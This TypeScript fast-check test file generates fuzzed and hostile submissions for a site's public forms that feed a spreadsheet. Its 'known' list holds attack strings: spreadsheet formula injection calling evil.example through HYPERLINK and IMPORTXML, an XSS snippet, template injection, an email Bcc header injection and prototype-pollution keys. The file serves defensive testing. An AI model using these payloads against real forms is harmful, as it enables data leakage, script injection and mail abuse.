import * as fc from 'fast-check';
import { formFields, type FormField } from '../../sheets-schema/forms.ts';
import { lists, type ListName } from '../../sheets-schema/lists.ts';
import type { Tab } from '../../sheets-schema/tab.ts';
import type { FormName } from '../../sheets-schema/vocabulary.ts';
import { contacts } from '../../sheets-schema/contacts.ts';
import { events } from '../../sheets-schema/events.ts';
import { offers } from '../../sheets-schema/offers.ts';
import { partners } from '../../sheets-schema/partners.ts';
import { reports } from '../../sheets-schema/reports.ts';
import { idOf } from '../../functions/platform/keys.ts';

/** The public forms, and the field of each in which a submission's mark stands. */
export const forms: Readonly<Record<FormName, { readonly tab: Tab; readonly marked: string }>> = {
  contact: { tab: contacts, marked: 'need' },
  offer: { tab: offers, marked: 'title' },
  event: { tab: events, marked: 'title' },
  report: { tab: reports, marked: 'text' },
  subscription: { tab: partners, marked: 'email' },
};

/** What is wrong with a token, or that nothing is. `shared` is one that many other submissions bear as well. */
export type TokenKind =
  'good' | 'shared' | 'fresh' | 'ahead' | 'old' | 'foreign' | 'forged' | 'none' | 'doubled';

/** How the body is written. `latin1` and `broken` are no UTF-8; the others are not what a form of ours sends. */
export type Shape = 'utf8' | 'latin1' | 'broken' | 'charset' | 'multipart' | 'json' | 'untyped' | 'large';

/** One thing that somebody sends to a form. `@` in a text stands for its mark. */
export interface Submission {
  readonly form: FormName;
  readonly fields: readonly (readonly [name: string, text: string])[];
  readonly token: TokenKind;
  readonly shape: Shape;
  /** How often it is sent at once: a double click, a browser's resend, a replay. */
  readonly times: number;
  readonly trapped: boolean;
}

/** In a text, the place of the mark that tells the submission from all others. */
export const MARK = '\u{F0000}';

/** Texts that have broken something somewhere. */
const known = [
  '=1+1',
  '+49 571 0',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.example";"hier")',
  "'=1+1",
  '\t=1+1',
  '\uFEFF=1+1',
  '=IMPORTXML("https://evil.example";"//a")',
  'Null\u0000 und Glocke\u0007',
  '\u0001\u001B[31mrot',
  '\u202Ekehrt\u202C \u200F\u200E',
  `e${'\u0301'.repeat(400)}`,
  'ein\r\nzwei\rdrei\nvier',
  'a@b.example\r\nBcc: c@d.example',
  'a@b.example, c@d.example',
  '"a"@b.example',
  'a@b.example\u0000',
  '\u2028\u2029\u0085',
  '<script>alert(1)</script>"><img src=x>',
  '</textarea><b>',
  '{{7*7}} ${7*7} {n}',
  '%00 %zz %E4 +',
  'https://a.example https://b.example [url=https://c.example]c[/url]',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '1e400',
  '0x10',
  '00571',
  '2026-02-30',
  '24:00',
  'TRUE',
  '#REF!',
  '\uFFFD',
  '\uD800 allein',
  'allein \uDFFF',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F3}\uFE0F\u200D\u{1F308}',
  'שלום مرحبا Привіт 你好',
  idOf('eine Kennung'),
  ' \n ',
  'x'.repeat(501),
  'ä'.repeat(5_001),
  'y'.repeat(50_001),
];

const nasty = fc.oneof(
  fc.constantFrom(...known),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  // Every code unit, halves of pairs included.
  fc.array(fc.integer({ max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)),
  fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ maxLength: 20 })).map((parts) => parts.join('')),
);

/** Rarely something nasty, else something right: else hardly anything would get as far as the sheet. */
function mostly(right: fc.Arbitrary<string>, share = 40): fc.Arbitrary<string> {
  return fc.oneof({ arbitrary: right, weight: share }, { arbitrary: nasty, weight: 1 });
}

function answerOf({ key, column }: FormField): fc.Arbitrary<string> {
  // A day of a weekly series that begins on the right date below; else the form asks again.
  if (key === 'exceptions') return mostly(fc.constantFrom('15.6.2099', '15. 6. 2099,\n29.6.2099'));
  switch (column.kind) {
    case 'oneOf':
    case 'someOf':
      return mostly(fc.constantFrom(...lists[column.list as ListName].map((entry) => entry.key)));
    case 'email':
      return mostly(fc.constantFrom('a.b+c@verein.example', "o'neil@büro.example", ' x@y.example '));
    case 'url':
      return mostly(fc.constantFrom('www.treff.example', 'https://a.example/=1?b=c#d'));
    case 'date':
      return mostly(fc.constantFrom('2099-06-01', '2096-02-29'));
    case 'time':
      return mostly(fc.constantFrom('09:30', '00:00', '23:59'));
    case 'number':
      return mostly(fc.constantFrom('0', '12', '2,5'));
    default:
      return nasty.filter((text) => text.length <= (column.max ?? 120)).map((text) => text.slice(0, 100));
  }
}

/** Names that no form asks for, some of which every object has. */
const strays = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'id',
  'state',
  'status',
  'ticket',
  '',
];

function fieldsOf(form: FormName): fc.Arbitrary<Submission['fields']> {
  const { tab, marked } = forms[form];
  const asked = formFields(tab, form).map((field) => {
    const { key, required } = field;
    const some = (n: number) => fc.array(answerOf(field), { minLength: n, maxLength: n });
    if (key === marked) return markedText(field).map((text) => [[key, text] as const]);
    // Most are answered once, some not at all, some twice.
    const answers = fc.oneof(
      { arbitrary: some(1), weight: required ? 60 : 30 },
      { arbitrary: some(0), weight: required ? 1 : 15 },
      { arbitrary: some(2), weight: 1 },
    );
    return answers.map((texts) => texts.map((text) => [key, text] as const));
  });
  const stray = fc
    .array(fc.tuple(fc.constantFrom(...strays), nasty), { maxLength: 2 })
    .map((all) => all.filter(([, text]) => text.length < 600));
  return fc.tuple(...asked, stray).map((parts) => parts.flat());
}

function markedText({ column }: FormField): fc.Arbitrary<string> {
  if (column.kind === 'email')
    return fc.oneof(
      { arbitrary: fc.constant(`${MARK}@verein.example`), weight: 6 },
      { arbitrary: nasty.map((text) => `${MARK}@verein.example${text}`), weight: 1 },
    );
  return fc.oneof(
    { arbitrary: fc.constant(MARK), weight: 1 },
    { arbitrary: nasty.map((text) => `${MARK}${text}`), weight: 4 },
    { arbitrary: nasty.map((text) => `${text}${MARK}`), weight: 4 },
  );
}

const tokens = fc.oneof(
  { arbitrary: fc.constant<TokenKind>('good'), weight: 24 },
  { arbitrary: fc.constantFrom<TokenKind>('shared', 'fresh', 'ahead'), weight: 4 },
  { arbitrary: fc.constantFrom<TokenKind>('old', 'foreign', 'forged', 'none', 'doubled'), weight: 4 },
);
const shapes = fc.oneof(
  { arbitrary: fc.constant<Shape>('utf8'), weight: 60 },
  {
    arbitrary: fc.constantFrom<Shape>('latin1', 'broken', 'charset', 'multipart', 'json', 'untyped'),
    weight: 3,
  },
  { arbitrary: fc.constant<Shape>('large'), weight: 1 },
);

/** Everything that somebody may send. */
export const submission: fc.Arbitrary<Submission> = fc
  .constantFrom(...(Object.keys(forms) as FormName[]))
  .chain((form) =>
    fc.record({
      form: fc.constant(form),
      fields: fieldsOf(form),
      token: tokens,
      shape: shapes,
      times: fc.constantFrom(1, 1, 1, 1, 1, 1, 1, 2),
      trapped: fc.constantFrom(false, false, false, true),
    }),
  );
